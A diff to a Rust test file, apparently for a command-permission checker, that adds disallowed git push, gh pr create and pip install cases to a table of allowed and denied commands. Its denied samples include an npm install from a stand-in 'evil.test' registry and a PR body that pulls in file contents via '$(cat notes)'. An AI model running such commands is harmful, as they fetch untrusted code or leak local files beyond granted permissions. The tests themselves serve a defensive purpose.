@@ -27,6 +27,7 @@ impl Surroundings for Typed {
             }
             Question::KnownRemote(_, name) if name == "origin" => Answer::Yes,
             Question::KnownRemote(..) => Answer::No,
+            Question::Declared(_, kind, _) if kind == "npm" => Answer::No,
             Question::PushTarget(..) => Answer::Names(vec!["origin".to_owned(), "main".to_owned()]),
             Question::Branch(_) => Answer::Name("main".to_owned()),
             Question::TopLevel(folder) => Answer::Path(folder.clone()),
@@ -65,6 +66,8 @@ const GRANTS: [(&str, &[&str], &[&str]); 7] = [
             "git push origin master",
             "git push new main",
             "git push --tags",
+            "git push --push-option=deploy origin main",
+            "git push --follow-tags origin main",
             "git push origin main && frob sync",
             "git push origin HEAD:release",
             "npm publish",
@@ -80,6 +83,8 @@ const GRANTS: [(&str, &[&str], &[&str]); 7] = [
         &["gh pr create --title 'a b' --body text"],
         &[
             "gh pr merge 3",
+            "gh pr create --repo other/one --title a --body b",
+            "gh pr create -R https://forge.test/other/one --title a --body b",
             "gh pr comment 3 --body x",
             "gh pr create --title a --body \"$(cat notes)\"",
             "gh pr create --title a --body-file notes",
@@ -93,6 +98,7 @@ const GRANTS: [(&str, &[&str], &[&str]); 7] = [
             "npm install -g zod",
             "npm install zod --registry https://evil.test",
             "npm install zodd",
+            "pip install zod",
             "npm install ./zod",
         ],
     ),
